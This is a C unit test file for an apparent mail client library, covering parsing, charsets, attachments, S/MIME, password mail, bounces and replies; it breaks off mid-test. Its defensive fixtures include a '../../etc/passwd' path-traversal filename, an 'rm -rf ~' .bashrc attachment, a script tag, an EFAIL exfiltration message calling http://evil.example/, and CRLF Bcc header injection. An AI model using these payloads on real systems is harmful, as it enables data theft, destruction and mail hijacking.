/* test-read-message.c: received mail made safe to show: bodies, charsets,
 * attachments with hostile names, S/MIME (Epistle's and openssl's), the
 * EFAIL rule, password mail, a Postfix bounce, replies and forwards
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>
#include <sys/stat.h>
#include <glib/gstdio.h>
#include <epistle-core.h>
#include "../test-tmpdir.h"

#define VAULT_PASS "reader test passphrase"
#define PW "Kastanie-Wolke-7-F\xc3\xa4hre"

static char *tmp_dir;
static EpVault *vault;
static char *fingerprint;

static GBytes *
crlf (const char *text)
{
  g_autoptr(GString) out = g_string_new (NULL);

  for (const char *p = text; *p; p++)
    {
      if (*p == '\n' && (p == text || p[-1] != '\r'))
        g_string_append_c (out, '\r');
      g_string_append_c (out, *p);
    }
  return g_bytes_new (out->str, out->len);
}

static EpReadMessage *
read_text (const char *text,
           EpVault    *v,
           const char *password)
{
  g_autoptr(GBytes) raw = crlf (text);
  g_autoptr(GError) error = NULL;
  EpReadMessage *message = ep_read_message_parse (raw, v, password, FALSE, &error);

  g_assert_no_error (error);
  g_assert_nonnull (message);
  return message;
}

static EpReadMessage *
read_bytes (GBytes     *raw,
            EpVault    *v,
            const char *password)
{
  g_autoptr(GError) error = NULL;
  EpReadMessage *message = ep_read_message_parse (raw, v, password, FALSE, &error);

  g_assert_no_error (error);
  g_assert_nonnull (message);
  return message;
}

#define PLAIN \
  "From: Ann Example <ann@example.org>\n" \
  "To: Bob <bob@example.org>, carol@example.org\n" \
  "Cc: Dan <dan@example.org>\n" \
  "Subject: Re: Plans\n" \
  "Date: Tue, 14 Nov 2023 10:30:00 +0000\n" \
  "Message-ID: <orig.1@example.org>\n" \
  "References: <r0@example.org>\n" \
  "In-Reply-To: <r0@example.org>\n" \
  "MIME-Version: 1.0\n" \
  "Content-Type: text/plain; charset=utf-8\n" \
  "Content-Transfer-Encoding: 8bit\n" \
  "\n" \
  "Hello Bob,\n" \
  "\n" \
  "see you at the caf\xc3\xa9.\n" \
  "> earlier words\n"

static void
test_plain (void)
{
  g_autoptr(EpReadMessage) m = read_text (PLAIN, NULL, NULL);

  g_assert_cmpint (m->state, ==, EP_READ_OK);
  g_assert_cmpint (m->protection, ==, EP_READ_PLAIN);
  g_assert_null (m->security_summary);
  g_assert_cmpstr (m->subject, ==, "Re: Plans");
  g_assert_cmpstr (m->from, ==, "Ann Example <ann@example.org>");
  g_assert_cmpstr (m->from_address, ==, "ann@example.org");
  g_assert_cmpstr (m->to, ==, "Bob <bob@example.org>, carol@example.org");
  g_assert_cmpstr (m->cc, ==, "Dan <dan@example.org>");
  g_assert_null (m->reply_to);
  g_assert_cmpint (m->date, ==, 1699957800);
  g_assert_cmpstr (m->message_id, ==, "<orig.1@example.org>");
  g_assert_cmpstr (m->references, ==, "<r0@example.org>");
  g_assert_cmpstr (m->in_reply_to, ==, "<r0@example.org>");
  g_assert_false (m->body_was_html);
  g_assert_cmpstr (m->body->text, ==,
                   "Hello Bob,\n\nsee you at the caf\xc3\xa9.\n> earlier words\n");
  g_assert_cmpuint (m->attachments->len, ==, 0);
  g_assert_null (m->bounce);
}

static void
test_alternative (void)
{
  g_autoptr(EpReadMessage) m = read_text (
    "From: ann@example.org\n"
    "To: bob@example.org\n"
    "Subject: Both\n"
    "MIME-Version: 1.0\n"
    "Content-Type: multipart/alternative; boundary=\"b1\"\n"
    "\n"
    "--b1\n"
    "Content-Type: text/plain; charset=us-ascii\n"
    "\n"
    "The plain words\n"
    "--b1\n"
    "Content-Type: text/html; charset=iso-8859-1\n"
    "Content-Transfer-Encoding: quoted-printable\n"
    "\n"
    "<html><head><style>p{}</style><script>alert(1)</script></head>"
    "<body><p>Rich <b>gr=FC=DFe</b></p></body></html>\n"
    "--b1--\n", NULL, NULL);

  g_assert_cmpint (m->state, ==, EP_READ_OK);
  g_assert_true (m->body_was_html);
  /* The renderer's layout is its own; the words and charset are ours. */
  g_assert_nonnull (strstr (m->body->text, "Rich"));
  g_assert_nonnull (strstr (m->body->text, "gr\xc3\xbc\xc3\x9f" "e"));
  g_assert_null (strstr (m->body->text, "plain words"));
  g_assert_null (strstr (m->body->text, "alert"));
  /* The unused alternative is not an attachment. */
  g_assert_cmpuint (m->attachments->len, ==, 0);
}

static void
test_charsets (void)
{
  /* "Grüße – €" in Windows-1252 (0x96 en dash, 0x80 euro), 0x81 undefined */
  g_autoptr(EpReadMessage) cp = read_text (
    "From: a@example.org\nSubject: cp\nMIME-Version: 1.0\n"
    "Content-Type: text/plain; charset=windows-1252\n"
    "Content-Transfer-Encoding: 8bit\n\n"
    "Gr\xfc\xdf" "e \x96 \x80 \x81!\n", NULL, NULL);
  /* Labelled Latin-1, written by Windows: read as Windows-1252 */
  g_autoptr(EpReadMessage) latin = read_text (
    "From: a@example.org\nSubject: latin\nMIME-Version: 1.0\n"
    "Content-Type: text/plain; charset=ISO-8859-1\n"
    "Content-Transfer-Encoding: quoted-printable\n\n"
    "Caf=E9 =93quoted=94\n", NULL, NULL);
  g_autoptr(EpReadMessage) bad = read_text (
    "From: a@example.org\nSubject: bad\nMIME-Version: 1.0\n"
    "Content-Type: text/plain; charset=utf-8\n"
    "Content-Transfer-Encoding: 8bit\n\n"
    "ok \xff\xfe end\n", NULL, NULL);
  g_autoptr(EpReadMessage) flowed = read_text (
    "From: a@example.org\nSubject: flowed\nMIME-Version: 1.0\n"
    "Content-Type: text/plain; charset=utf-8; format=flowed\n\n"
    "A long line that \nwas wrapped.\n From stuffed\n-- \nSig\n", NULL, NULL);

  g_assert_cmpstr (cp->body->text, ==, "Gr\xc3\xbc\xc3\x9f" "e \xe2\x80\x93 \xe2\x82\xac \xef\xbf\xbd!\n");
  g_assert_cmpstr (latin->body->text, ==, "Caf\xc3\xa9 \xe2\x80\x9cquoted\xe2\x80\x9d\n");
  g_assert_cmpstr (bad->body->text, ==, "ok \xef\xbf\xbd\xef\xbf\xbd end\n");
  g_assert_cmpstr (flowed->body->text, ==, "A long line that was wrapped.\nFrom stuffed\n-- \nSig\n");
}

static void
test_encoded_words (void)
{
  g_autoptr(EpDraft) draft = ep_draft_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(EpOutgoing) outgoing = NULL;
  g_autoptr(GString) subject = g_string_new (NULL);
  g_autoptr(EpReadMessage) built = NULL;
  g_autoptr(EpReadMessage) hand = NULL;

  /* A long subject as Epistle (GMime) writes it: folded into several
   * base64 words, each padded; GMime 3.2's own reader cuts it short. */
  for (guint i = 0; i < 30; i++)
    g_string_append (subject, "W\xc3\xb6rter ");
  g_string_append (subject, "Ende");
  draft->from_address = g_strdup ("ann@example.org");
  g_ptr_array_add (draft->to, g_strdup ("bob@example.org"));
  draft->subject = g_strdup (subject->str);
  draft->body = g_strdup ("x");
  outgoing = ep_message_build (draft, NULL, &error);
  g_assert_no_error (error);
  built = read_bytes (outgoing->data, NULL, NULL);
  g_assert_cmpstr (built->subject, ==, subject->str);

  hand = read_text (
    "From: =?ISO-8859-1?Q?Andr=E9?= Pirard <pirard@example.org>\n"
    "Subject: =?UTF-8?B?R3LDvMOfZQ==?=\n =?UTF-8?Q?_aus_K=C3=B6ln?= and\n  more\n"
    "\n"
    "body\n", NULL, NULL);
  g_assert_cmpstr (hand->subject, ==, "Gr\xc3\xbc\xc3\x9f" "e aus K\xc3\xb6ln and more");
  g_assert_cmpstr (hand->from, ==, "Andr\xc3\xa9 Pirard <pirard@example.org>");
}

#define ATTACHMENTS \
  "From: ann@example.org\n" \
  "To: bob@example.org\n" \
  "Subject: Files\n" \
  "Message-ID: <files@example.org>\n" \
  "MIME-Version: 1.0\n" \
  "Content-Type: multipart/mixed; boundary=\"mix\"\n" \
  "\n" \
  "--mix\n" \
  "Content-Type: text/plain; charset=utf-8\n" \
  "\n" \
  "Four files.\n" \
  "--mix\n" \
  "Content-Type: application/octet-stream; name=\"passwd\"\n" \
  "Content-Disposition: attachment; filename=\"../../etc/passwd\"\n" \
  "Content-Transfer-Encoding: base64\n" \
  "\n" \
  "cm9vdDp4OjA6MDo=\n" \
  "--mix\n" \
  "Content-Type: text/plain\n" \
  "Content-Disposition: attachment; filename=\".bashrc\"\n" \
  "\n" \
  "rm -rf ~\n" \
  "--mix\n" \
  "Content-Type: application/pdf\n" \
  "Content-Disposition: attachment; filename=\"\"\n" \
  "Content-Transfer-Encoding: base64\n" \
  "\n" \
  "JVBERi0xLjQK\n" \
  "--mix\n" \
  "Content-Type: application/pdf\n" \
  "Content-Disposition: attachment;\n" \
  " filename*=UTF-8''%C3%9Cbersicht%20M%C3%A4rz%0A.pdf\n" \
  "Content-Transfer-Encoding: base64\n" \
  "\n" \
  "JVBERi0xLjcK\n" \
  "--mix\n" \
  "Content-Type: image/png; name=\"logo.png\"\n" \
  "Content-Disposition: inline\n" \
  "Content-ID: <logo@x>\n" \
  "Content-Transfer-Encoding: base64\n" \
  "\n" \
  "iVBORw0KGgo=\n" \
  "--mix--\n"

static void
test_attachments (void)
{
  g_autoptr(EpReadMessage) m = read_text (ATTACHMENTS, NULL, NULL);
  const char *names[] = { "passwd", "bashrc", "attachment-3", "\xc3\x9c" "bersicht M\xc3\xa4rz.pdf",
                          "logo.png" };
  const char *types[] = { "application/octet-stream", "text/plain", "application/pdf",
                          "application/pdf", "image/png" };
  const char *contents[] = { "root:x:0:0:", "rm -rf ~", "%PDF-1.4\n", "%PDF-1.7\n",
                             "\x89PNG\r\n\x1a\n" };
  g_autoptr(GError) error = NULL;

  /* The line break before a boundary belongs to the boundary (RFC 2046) */
  g_assert_cmpstr (m->body->text, ==, "Four files.");
  g_assert_cmpuint (m->attachments->len, ==, G_N_ELEMENTS (names));
  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      EpReadAttachment *a = g_ptr_array_index (m->attachments, i);
      g_autoptr(GBytes) bytes = ep_read_message_attachment_bytes (m, a->index, &error);

      g_assert_no_error (error);
      g_assert_cmpstr (a->filename, ==, names[i]);
      g_assert_cmpstr (a->content_type, ==, types[i]);
      g_assert_cmpuint (a->index, ==, i);
      g_assert_cmpuint (a->size, ==, strlen (contents[i]));
      g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes),
                       contents[i], strlen (contents[i]));
    }
  g_assert_null (ep_read_message_attachment_bytes (m, 5, &error));
  g_assert_error (error, EP_MAIL_ERROR, EP_MAIL_ERROR_ATTACHMENT);
}

#define INNER \
  "From: Ann Example <ann@example.org>\r\n" \
  "To: ann@example.org\r\n" \
  "Subject: Marks\r\n" \
  "Message-ID: <m1@example.org>\r\n" \
  "MIME-Version: 1.0\r\n" \
  "Content-Type: text/plain; charset=utf-8\r\n" \
  "Content-Transfer-Encoding: 8bit\r\n" \
  "\r\n" \
  "Secret mark: 17/20\r\n"

static GBytes *
protect (EpProtection protection)
{
  g_autoptr(GBytes) message = g_bytes_new_static (INNER, strlen (INNER));
  const char *recipients[] = { "ann@example.org", NULL };
  g_autoptr(GError) error = NULL;
  GBytes *out = ep_smime_protect (vault, message, protection, "ann@example.org", recipients,
                                  NULL, NULL, &error);

  g_assert_no_error (error);
  return out;
}

static void
test_smime_epistle (void)
{
  g_autoptr(GBytes) encrypted = protect (EP_PROTECT_ENCRYPT);
  g_autoptr(EpReadMessage) m = read_bytes (encrypted, vault, NULL);
  g_autoptr(EpReadMessage) locked = read_bytes (encrypted, NULL, NULL);

  g_assert_cmpint (m->state, ==, EP_READ_OK);
  g_assert_cmpint (m->protection, ==, EP_READ_SMIME);
  g_assert_true (m->encrypted);
  g_assert_cmpstr (m->algorithm, ==, "AES-256-CBC");
  g_assert_true (m->is_signed);
  g_assert_true (m->signer_trusted);
  g_assert_true (m->integrity);
  g_assert_cmpstr (m->signer, ==, "Ann Example <ann@example.org>");
  g_assert_cmpstr (m->security_summary, ==,
                   "Encrypted (AES-256-CBC) and signed by Ann Example <ann@example.org>");
  g_assert_cmpstr (m->subject, ==, "Marks");
  g_assert_cmpstr (m->body->text, ==, "Secret mark: 17/20\n");

  g_assert_cmpint (locked->state, ==, EP_READ_FAILED);
  g_assert_null (locked->body);
  g_assert_cmpstr (locked->problem, ==, "This message is encrypted. Unlock the key vault to read it.");
  g_assert_cmpstr (locked->subject, ==, "Marks");
}

static void
test_smime_signed (void)
{
  g_autoptr(GBytes) signed_ = protect (EP_PROTECT_SIGN);
  g_autoptr(EpReadMessage) m = read_bytes (signed_, vault, NULL);
  gsize len;
  g_autofree char *altered = g_strndup (g_bytes_get_data (signed_, &len), g_bytes_get_size (signed_));
  char *mark = strstr (altered, "17/20");
  g_autoptr(GBytes) tampered = NULL;
  g_autoptr(EpReadMessage) bad = NULL;

  g_assert_cmpint (m->state, ==, EP_READ_OK);
  g_assert_false (m->encrypted);
  g_assert_true (m->is_signed);
  g_assert_true (m->signer_trusted);
  g_assert_cmpstr (m->security_summary, ==, "Signed by Ann Example <ann@example.org>");
  g_assert_cmpstr (m->body->text, ==, "Secret mark: 17/20\n");

  g_assert_nonnull (mark);
  mark[0] = '9';
  tampered = g_bytes_new (altered, len);
  bad = read_bytes (tampered, vault, NULL);
  g_assert_cmpint (bad->state, ==, EP_READ_FAILED);
  g_assert_null (bad->body);
  g_assert_nonnull (bad->problem);
  g_assert_cmpuint (bad->attachments->len, ==, 0);
}

static char *
run (const char * const *argv)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *err = NULL;
  char *out = NULL;
  int status = 0;

  g_spawn_sync (tmp_dir, (char **) argv, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out, &err,
                &status, &error);
  g_assert_no_error (error);
  if (!g_spawn_check_wait_status (status, NULL))
    g_error ("%s failed: %s", argv[0], err);
  return out;
}

static void
test_smime_openssl (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) p12 = ep_vault_export (vault, fingerprint, "export-pw", &error);
  g_autofree char *p12_path = g_build_filename (tmp_dir, "ann.p12", NULL);
  g_autofree char *in_path = g_build_filename (tmp_dir, "entity.txt", NULL);
  g_autofree char *out_path = g_build_filename (tmp_dir, "openssl.eml", NULL);
  g_autofree char *ignored = NULL;
  g_autofree char *data = NULL;
  g_autoptr(GBytes) raw = NULL;
  g_autoptr(EpReadMessage) m = NULL;
  gsize len;
  const char *entity = "Content-Type: text/plain; charset=utf-8\r\n\r\nFrom openssl, r\xc3\xa9sum\xc3\xa9\r\n";

  g_assert_no_error (error);
  g_assert_true (g_file_set_contents (p12_path, g_bytes_get_data (p12, NULL), g_bytes_get_size (p12), NULL));
  g_assert_true (g_file_set_contents (in_path, entity, -1, NULL));
  g_free (run ((const char *[]) { "openssl", "pkcs12", "-in", "ann.p12", "-passin", "pass:export-pw",
                                  "-nokeys", "-clcerts", "-out", "ann.pem", NULL }));
  ignored = run ((const char *[]) { "openssl", "cms", "-encrypt", "-aes256", "-in", "entity.txt",
                                    "-out", "openssl.eml", "-from", "Ann <ann@example.org>",
                                    "-to", "ann@example.org", "-subject", "From the command line",
                                    "ann.pem", NULL });
  g_assert_true (g_file_get_contents (out_path, &data, &len, NULL));
  raw = g_bytes_new (data, len);
  m = read_bytes (raw, vault, NULL);

  g_assert_cmpint (m->state, ==, EP_READ_OK);
  g_assert_true (m->encrypted);
  g_assert_false (m->is_signed);
  g_assert_false (m->integrity);
  g_assert_cmpstr (m->security_summary, ==, "Encrypted (AES-256-CBC), not protected against tampering");
  g_assert_cmpstr (m->subject, ==, "From the command line");
  g_assert_cmpstr (m->body->text, ==, "From openssl, r\xc3\xa9sum\xc3\xa9\n");
}

/* The encrypted entity (its Content-* fields and body) of a protected message. */
static char *
entity_of (GBytes *message)
{
  g_autofree char *text = g_strndup (g_bytes_get_data (message, NULL), g_bytes_get_size (message));
  char *ctype = strstr (text, "Content-Type: application/pkcs7-mime");

  g_assert_nonnull (ctype);
  return g_strdup (ctype);
}

static void
test_efail (void)
{
  g_autoptr(GBytes) encrypted = protect (EP_PROTECT_ENCRYPT);
  g_autofree char *entity = entity_of (encrypted);
  g_autofree char *text = g_strconcat (
    "From: Ann Example <ann@example.org>\r\n"
    "To: ann@example.org\r\n"
    "Subject: Marks\r\n"
    "MIME-Version: 1.0\r\n"
    "Content-Type: multipart/mixed; boundary=\"attack\"\r\n"
    "\r\n"
    "--attack\r\n"
    "Content-Type: text/html\r\n"
    "\r\n"
    "<img src=\"http://evil.example/?\r\n"
    "--attack\r\n", entity,
    "\r\n--attack\r\n"
    "Content-Type: text/html\r\n"
    "\r\n"
    "\">Attacker words\r\n"
    "--attack--\r\n", NULL);
  g_autoptr(GBytes) raw = g_bytes_new (text, strlen (text));
  g_autoptr(EpReadMessage) m = read_bytes (raw, vault, NULL);
  g_autoptr(EpReadMessage) locked = read_bytes (raw, NULL, NULL);

  g_assert_cmpint (m->state, ==, EP_READ_OK);
  g_assert_true (m->encrypted);
  g_assert_cmpstr (m->body->text, ==, "Secret mark: 17/20\n");
  g_assert_false (m->body_was_html);
  g_assert_cmpuint (m->attachments->len, ==, 0);
  g_assert_cmpstr (m->security_summary, ==,
                   "Encrypted (AES-256-CBC) and signed by Ann Example <ann@example.org>. "
                   "Other parts of the message were not protected and are not shown.");
  g_assert_cmpint (locked->state, ==, EP_READ_FAILED);
  g_assert_null (locked->body);
}

/* A signed part (multipart/signed) between unsigned ones: the signature
 * still verifies on the part alone, and only the signed text is shown. */
static void
test_efail_signed (void)
{
  g_autoptr(GBytes) signed_ = protect (EP_PROTECT_SIGN);
  g_autofree char *text = g_strndup (g_bytes_get_data (signed_, NULL), g_bytes_get_size (signed_));
  char *entity = strstr (text, "Content-Type: multipart/signed");
  g_autofree char *wrapped = NULL;
  g_autoptr(GBytes) raw = NULL;
  g_autoptr(EpReadMessage) m = NULL;

  g_assert_nonnull (entity);
  wrapped = g_strconcat ("From: Ann Example <ann@example.org>\r\n"
                         "Subject: Marks\r\n"
                         "MIME-Version: 1.0\r\n"
                         "Content-Type: multipart/mixed; boundary=\"outer\"\r\n"
                         "\r\n"
                         "--outer\r\n"
                         "Content-Type: text/plain\r\n"
                         "\r\n"
                         "Unsigned words before\r\n"
                         "--outer\r\n", entity,
                         "\r\n--outer--\r\n", NULL);
  raw = g_bytes_new (wrapped, strlen (wrapped));
  m = read_bytes (raw, vault, NULL);
  g_assert_cmpint (m->state, ==, EP_READ_OK);
  g_assert_true (m->is_signed);
  g_assert_true (m->signer_trusted);
  g_assert_cmpstr (m->body->text, ==, "Secret mark: 17/20\n");
  g_assert_cmpstr (m->security_summary, ==,
                   "Signed by Ann Example <ann@example.org>. "
                   "Other parts of the message were not protected and are not shown.");
}

static void
test_password (void)
{
  g_autoptr(GBytes) message = g_bytes_new_static (INNER, strlen (INNER));
  EpPwmailOptions options = { "Ann Example", NULL };
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) raw = ep_pwmail_protect (message, PW, &options, &error);
  g_autoptr(EpReadMessage) none = NULL;
  g_autoptr(EpReadMessage) wrong = NULL;
  g_autoptr(EpReadMessage) right = NULL;

  g_assert_no_error (error);
  none = read_bytes (raw, NULL, NULL);
  g_assert_cmpint (none->state, ==, EP_READ_NEEDS_PASSWORD);
  g_assert_cmpint (none->protection, ==, EP_READ_PASSWORD);
  g_assert_null (none->body);
  g_assert_cmpuint (none->attachments->len, ==, 0);
  g_assert_cmpstr (none->subject, ==, "Marks");

  wrong = read_bytes (raw, NULL, "not the password");
  g_assert_cmpint (wrong->state, ==, EP_READ_FAILED);
  g_assert_null (wrong->body);
  g_assert_nonnull (wrong->problem);
  g_assert_null (strstr (wrong->problem, "Secret"));

  right = read_bytes (raw, NULL, PW);
  g_assert_cmpint (right->state, ==, EP_READ_OK);
  g_assert_true (right->encrypted);
  g_assert_true (right->integrity);
  g_assert_cmpstr (right->security_summary, ==, "Opened with its password (AES-256-GCM)");
  g_assert_cmpstr (right->body->text, ==, "Secret mark: 17/20\n");
  g_assert_cmpuint (right->attachments->len, ==, 0);
}

/* As Postfix 3.7 writes it (bounce(8)). */
#define POSTFIX_DSN \
  "Return-Path: <>\n" \
  "Date: Tue, 14 Nov 2023 10:31:02 +0000 (UTC)\n" \
  "From: MAILER-DAEMON@mx.example.org (Mail Delivery System)\n" \
  "Subject: Undelivered Mail Returned to Sender\n" \
  "To: ann@example.org\n" \
  "Auto-Submitted: auto-replied\n" \
  "MIME-Version: 1.0\n" \
  "Content-Type: multipart/report; report-type=delivery-status;\n" \
  "\tboundary=\"4SV1tQ2bXkz9vZm.1699957862/mx.example.org\"\n" \
  "Message-Id: <4SV1tQ2bXkz9vZm@mx.example.org>\n" \
  "\n" \
  "This is a MIME-encapsulated message.\n" \
  "\n" \
  "--4SV1tQ2bXkz9vZm.1699957862/mx.example.org\n" \
  "Content-Description: Notification\n" \
  "Content-Type: text/plain; charset=us-ascii\n" \
  "\n" \
  "This is the mail system at host mx.example.org.\n" \
  "\n" \
  "I'm sorry to have to inform you that your message could not\n" \
  "be delivered to one or more recipients.\n" \
  "\n" \
  "<nobody@example.net>: host mail.example.net[192.0.2.7] said: 550 5.1.1\n" \
  "    <nobody@example.net>: Recipient address rejected: User unknown (in reply to\n" \
  "    RCPT TO command)\n" \
  "\n" \
  "--4SV1tQ2bXkz9vZm.1699957862/mx.example.org\n" \
  "Content-Description: Delivery report\n" \
  "Content-Type: message/delivery-status\n" \
  "\n" \
  "Reporting-MTA: dns; mx.example.org\n" \
  "X-Postfix-Queue-ID: 4SV1tQ2bXkz9vZm\n" \
  "X-Postfix-Sender: rfc822; ann@example.org\n" \
  "Arrival-Date: Tue, 14 Nov 2023 10:31:01 +0000 (UTC)\n" \
  "\n" \
  "Final-Recipient: rfc822; nobody@example.net\n" \
  "Original-Recipient: rfc822;nobody@example.net\n" \
  "Action: failed\n" \
  "Status: 5.1.1\n" \
  "Remote-MTA: dns; mail.example.net\n" \
  "Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.net>: Recipient address\n" \
  "    rejected: User unknown\n" \
  "\n" \
  "--4SV1tQ2bXkz9vZm.1699957862/mx.example.org\n" \
  "Content-Description: Undelivered Message Headers\n" \
  "Content-Type: text/rfc822-headers\n" \
  "\n" \
  "Return-Path: <ann@example.org>\n" \
  "From: Ann Example <ann@example.org>\n" \
  "To: nobody@example.net\n" \
  "Subject: Your marks\n" \
  "Message-ID:\n" \
  " <campaign.7.3@example.org>\n" \
  "Date: Tue, 14 Nov 2023 10:31:00 +0000\n" \
  "\n" \
  "--4SV1tQ2bXkz9vZm.1699957862/mx.example.org--\n"

static void
test_bounce (void)
{
  g_autoptr(EpReadMessage) m = read_text (POSTFIX_DSN, NULL, NULL);
  g_autoptr(EpReadMessage) plain = read_text (PLAIN, NULL, NULL);

  g_assert_nonnull (m->bounce);
  g_assert_cmpstr (m->bounce->original_message_id, ==, "<campaign.7.3@example.org>");
  g_assert_cmpuint (m->bounce->failed->len, ==, 1);
  g_assert_cmpstr (m->bounce->failed->pdata[0], ==, "nobody@example.net");
  g_assert_cmpstr (m->bounce->status, ==, "5.1.1");
  g_assert_cmpstr (m->bounce->diagnostic, ==,
                   "550 5.1.1 <nobody@example.net>: Recipient address rejected: User unknown");
  g_assert_true (m->bounce->permanent);
  g_assert_nonnull (strstr (m->body->text, "could not\nbe delivered"));
  g_assert_null (plain->bounce);
}

#define REPLY_SOURCE \
  "From: Ann Example <ann@example.org>\n" \
  "Reply-To: Ann's List <list@example.org>\n" \
  "To: Me <me@example.org>, carol@example.org\n" \
  "Cc: \"Dan, the Man\" <dan@example.org>, ME@example.org\n" \
  "Subject: RE: Plans\n" \
  "Date: Tue, 14 Nov 2023 10:30:00 +0000\n" \
  "Message-ID: <orig.1@example.org>\n" \
  "References: <r0@example.org> <r1@example.org>\n" \
  "\n" \
  "Line one\n" \
  "> older\n"

static void
test_reply (void)
{
  g_autoptr(EpReadMessage) m = read_text (REPLY_SOURCE, NULL, NULL);
  g_autoptr(EpDraft) sender = ep_read_message_make_reply (m, EP_REPLY_SENDER, "me@example.org");
  g_autoptr(EpDraft) all = ep_read_message_make_reply (m, EP_REPLY_ALL, "me@example.org");
  g_autoptr(EpReadMessage) plain = read_text (PLAIN, NULL, NULL);
  g_autoptr(EpDraft) simple = ep_read_message_make_reply (plain, EP_REPLY_SENDER, "bob@example.org");

  g_assert_cmpstr (sender->subject, ==, "Re: Plans");
  g_assert_cmpuint (sender->to->len, ==, 1);
  g_assert_cmpstr (sender->to->pdata[0], ==, "Ann's List <list@example.org>");
  g_assert_cmpuint (sender->cc->len, ==, 0);
  g_assert_cmpstr (sender->in_reply_to, ==, "<orig.1@example.org>");
  g_assert_cmpstr (sender->references, ==, "<r0@example.org> <r1@example.org> <orig.1@example.org>");
  g_assert_true (g_str_has_prefix (sender->body, "\n\nOn "));
  g_assert_nonnull (strstr (sender->body, ", Ann Example <ann@example.org> wrote:\n> Line one\n>> older\n"));
  g_assert_true (g_str_has_suffix (sender->body, ">> older\n"));

  g_assert_cmpuint (all->to->len, ==, 1);
  g_assert_cmpstr (all->to->pdata[0], ==, "Ann's List <list@example.org>");
  g_assert_cmpuint (all->cc->len, ==, 2);
  g_assert_cmpstr (all->cc->pdata[0], ==, "carol@example.org");
  g_assert_cmpstr (all->cc->pdata[1], ==, "\"Dan, the Man\" <dan@example.org>");

  g_assert_cmpstr (simple->subject, ==, "Re: Plans");
  g_assert_cmpstr (simple->to->pdata[0], ==, "Ann Example <ann@example.org>");
  g_assert_cmpstr (simple->references, ==, "<r0@example.org> <orig.1@example.org>");

  /* The draft builds, with the threading headers */
  {
    g_autoptr(GError) error = NULL;
    g_autoptr(EpOutgoing) out = NULL;
    g_autofree char *text = NULL;

    all->from_address = g_strdup ("me@example.org");
    out = ep_message_build (all, NULL, &error);
    g_assert_no_error (error);
    text = g_strndup (g_bytes_get_data (out->data, NULL), g_bytes_get_size (out->data));
    g_assert_nonnull (strstr (text, "\r\nIn-Reply-To: <orig.1@example.org>\r\n"));
    g_assert_nonnull (strstr (text, "\r\nReferences: <r0@example.org> <r1@example.org> <orig.1@example.org>\r\n"));
  }
}

static void
test_reply_injection (void)
{
  g_autoptr(EpReadMessage) folded = read_text (
    "From: eve@example.org\n"
    "To: me@example.org\n"
    "Subject: hi\n"
    "Message-ID: <a@b>\n Bcc: x@y\n"
    "References: <ok@b>\n\tBcc: x@y <c d@e>\n"
    "\n"
    "body\n", NULL, NULL);
  g_autoptr(EpDraft) reply = NULL;
  g_autoptr(EpOutgoing) out = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  char *end;

  /* Whatever a parser made of it, a value with a line break in it */
  g_free (folded->message_id);
  folded->message_id = g_strdup ("<a@b>\r\nBcc: x@y");
  reply = ep_read_message_make_reply (folded, EP_REPLY_SENDER, "me@example.org");
  g_assert_cmpstr (reply->in_reply_to, ==, "<a@b>");
  g_assert_cmpstr (reply->references, ==, "<ok@b> <a@b>");

  /* and the builder checks again */
  g_free (reply->in_reply_to);
  reply->in_reply_to = g_strdup ("<a@b>\r\nBcc: x@y");
  g_free (reply->references);
  reply->references = g_strdup ("<ok@b>\r\nBcc: x@y");
  reply->from_address = g_strdup ("me@example.org");
  out = ep_message_build (reply, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (out->recipients[0], ==, "eve@example.org");
  g_assert_null (out->recipients[1]);
  text = g_strndup (g_bytes_get_data (out->data, NULL), g_bytes_get_size (out->data));
  end = strstr (text, "\r\n\r\n");
  g_assert_nonnull (end);
  *end = '\0';
  g_assert_null (strstr (text, "Bcc"));
  g_assert_null (strstr (text, "x@y"));
  g_assert_nonnull (strstr (text, "\r\nIn-Reply-To: <a@b>\r\n"));
  g_assert_nonnull (strstr (text, "\r\nReferences: <ok@b>\r\n"));
}

static void
test_forward (void)
{
  g_autoptr(EpReadMessage) m = read_text (ATTACHMENTS, NULL, NULL);
  g_autoptr(EpDraft) fwd = ep_read_message_make_reply (m, EP_REPLY_FORWARD, "bob@example.org");
  g_autofree char *base = g_build_filename (tmp_dir, "cache", "epistle", "forward", NULL);
  g_autofree char *dir = NULL;
  struct stat st;

  g_assert_cmpstr (fwd->subject, ==, "Fwd: Files");
  g_assert_cmpuint (fwd->to->len, ==, 0);
  g_assert_null (fwd->in_reply_to);
  g_assert_nonnull (strstr (fwd->body, "---------- Forwarded message ----------\n"
                                       "From: ann@example.org\n"));
  g_assert_nonnull (strstr (fwd->body, "\nSubject: Files\nTo: bob@example.org\n\nFour files."));
  g_assert_cmpuint (fwd->attachments->len, ==, 5);
  dir = g_path_get_dirname (fwd->attachments->pdata[0]);
  g_assert_true (g_str_has_prefix (dir, base));
  g_assert_cmpint (g_stat (dir, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0700);
  {
    g_autofree char *name = g_path_get_basename (fwd->attachments->pdata[0]);
    g_autofree char *data = NULL;
    gsize len;

    g_assert_cmpstr (name, ==, "passwd");
    g_assert_true (g_file_get_contents (fwd->attachments->pdata[0], &data, &len, NULL));
    g_assert_cmpmem (data, len, "root:x:0:0:", 11);
  }
  {
    g_autofree char *name = g_path_get_basename (fwd->attachments->pdata[3]);
    g_assert_cmpstr (name, ==, "\xc3\x9c" "bersicht M\xc3\xa4rz.pdf");
  }
}

static void
test_not_a_message (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) empty = g_bytes_new ("", 0);
  g_autoptr(EpReadMessage) m = ep_read_message_parse (empty, NULL, NULL, FALSE, &error);

  /* No bytes: not a message, said so */
  g_assert_null (m);
  g_assert_error (error, EP_MAIL_ERROR, EP_MAIL_ERROR_INVALID);
  {
    g_autoptr(GString) deep = g_string_new ("From: a@b\nMIME-Version: 1.0\n");
    g_autoptr(GBytes) raw = NULL;
    g_autoptr(EpReadMessage) d = NULL;

